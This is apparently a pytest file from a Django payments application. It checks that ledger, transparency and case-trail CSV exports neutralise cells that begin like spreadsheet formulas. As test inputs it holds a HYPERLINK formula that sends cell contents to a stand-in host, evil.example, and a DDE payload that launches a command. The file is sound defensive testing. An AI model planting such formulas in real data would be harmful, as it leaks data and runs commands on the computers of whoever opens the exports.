"""Issue 14: no spreadsheet formula reaches an export. One helper (audit.spreadsheets) neutralises
cells that begin with = + - @, a tab or a carriage return, and every CSV (and XLSX) export uses it:
the ledger CSV (payees' account names), the transparency CSV (suppliers' names), the case trail."""

import csv
import io
import pathlib
import re
from decimal import Decimal

import pytest

from audit.spreadsheets import FORMULA_STARTS, safe_cell, safe_row
from payments import services as payment_services
from tests import scenario
from tests.network_packages.test_suppliers import approved_paying, taxi_firm

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Nan")'
PROJECT = pathlib.Path(__file__).resolve().parents[2]
APPS = ("audit", "core", "fgdm", "network_packages", "payments", "process", "config")


class TestTheHelper:
    @pytest.mark.parametrize("start", FORMULA_STARTS)
    def test_text_that_starts_like_a_formula_is_prefixed(self, start):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"

    @pytest.mark.parametrize("value", ["Nan Hardy", "O'Brien", "", "a=b", " =x", 3, Decimal("-5.00"), None])
    def test_everything_else_is_unchanged(self, value):
        assert safe_cell(value) == value

    def test_a_row(self):
        assert safe_row(["D", "@SUM(A1)", 2, "+44"]) == ["D", "'@SUM(A1)", 2, "'+44"]

    def test_every_csv_or_xlsx_writer_goes_through_the_helper(self):
        """A new export that calls csv.writer or openpyxl itself fails here: use audit.spreadsheets."""
        offenders = []
        for app in APPS:
            for path in (PROJECT / app).rglob("*.py"):
                if path.name == "spreadsheets.py" and path.parent.name == "audit":
                    continue
                text = path.read_text(encoding="utf-8")
                if re.search(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter", text):
                    offenders.append(str(path.relative_to(PROJECT)))
        assert offenders == []


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


@pytest.mark.django_db
class TestExports:
    def test_ledger_csv_neutralises_the_account_name(self, world):
        batch = scenario.approved_batch(world, name=FORMULA)
        _, content = payment_services.batch_export(batch_id=batch.pk, by=world.u.fin1, export_format="csv")
        details = [r for r in rows(content) if r[0] == "D"]
        assert details and all(r[2] == "'" + FORMULA for r in details)

    def test_transparency_csv_neutralises_the_supplier_name(self, world, api, today):
        supplier = taxi_firm(world, name="=cmd|' /C calc'!A0")
        package = approved_paying(world, api, supplier, frequency="one_off", instalments=1, amount="750.00")
        payment_services.payment_authorise(payment_id=package.payments.get().pk, by=world.u.fin1)
        batch = payment_services.batch_create(by=world.u.fin1)
        payment_services.batch_approve(batch_id=batch.pk, by=world.u.fin2)
        payment_services.batch_export(batch_id=batch.pk, by=world.u.fin1)
        payment_services.batch_confirm(batch_id=batch.pk, by=world.u.fin2)
        response = api.as_user(world.u.auditor).get(
            f"/api/v1/transparency/spend-over-500/?date_from={today}&date_to={today}"
        )
        found = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
        assert [r["Supplier name"] for r in found] == ["'=cmd|' /C calc'!A0"]

    # The case trail's CSV: tests/audit/test_audit_timeline.py (test_free_text_cannot_become_a_formula).
